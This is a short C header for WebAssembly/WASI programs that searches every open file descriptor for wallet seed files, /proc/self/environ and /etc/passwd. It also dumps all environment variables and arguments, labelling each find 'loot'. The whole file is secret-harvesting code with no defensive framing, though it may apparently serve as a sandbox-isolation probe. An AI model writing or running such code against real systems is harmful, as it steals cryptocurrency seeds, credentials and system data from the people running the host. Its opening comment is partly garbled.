// Looks for the wallet's seed wherever the system interface leads: descriptors, environment, arguments. All by
// functions that notify 1.0.0 imports too.
#pragma once

#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <wasi/api.h>

static unsigned read_through(__wasi_fd_t folder, const char *path) {
    __wasi_fd_t file;
    __wasi_lookupflags_t follow = __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW;
    if (__wasi_path_open(folder, follow, path, 0, __WASI_RIGHTS_FD_READ, 0, 0, &file) != 0) return 0;
    uint8_t text[128] = {0};
    size_t len = 0;
    __wasi_iovec_t part = {text, sizeof text - 1};
    __wasi_errno_t error = __wasi_fd_read(file, &part, 1, &len);
    (void)!__wasi_fd_close(file);
    if (error != 0 || len == 0) return 0;
    printf("loot: %s: %.*s\n", path, (int)strcspn((char *)text, "\n"), text);
    return 1;
}

static unsigned sweep(void) {
    static const char *const PATHS[] = {"seed.txt",      "../seed.txt",        "../../seed.txt",
                                        "data/seed.txt", "/proc/self/environ", "/etc/passwd"};
    static uint8_t *texts[64];
    static uint8_t space[4096];
    unsigned found = 0;
    size_t count = 0, size = 0;
    for (__wasi_fd_t fd = 0; fd < 64; fd++)
        for (size_t i = 0; i < sizeof PATHS / sizeof PATHS[0]; i++) found += read_through(fd, PATHS[i]);
    if (__wasi_environ_sizes_get(&count, &size) == 0 && count <= 64 && size <= sizeof space)
        if (__wasi_environ_get(texts, space) == 0)
            for (size_t i = 0; i < count; i++, found++) printf("loot: environment: %s\n", (char *)texts[i]);
    if (__wasi_args_sizes_get(&count, &size) == 0 && count <= 64 && size <= sizeof space)
        if (__wasi_args_get(texts, space) == 0)
            for (size_t i = 0; i < count; i++, found++) printf("loot: argument: %s\n", (char *)texts[i]);
    return found;
}
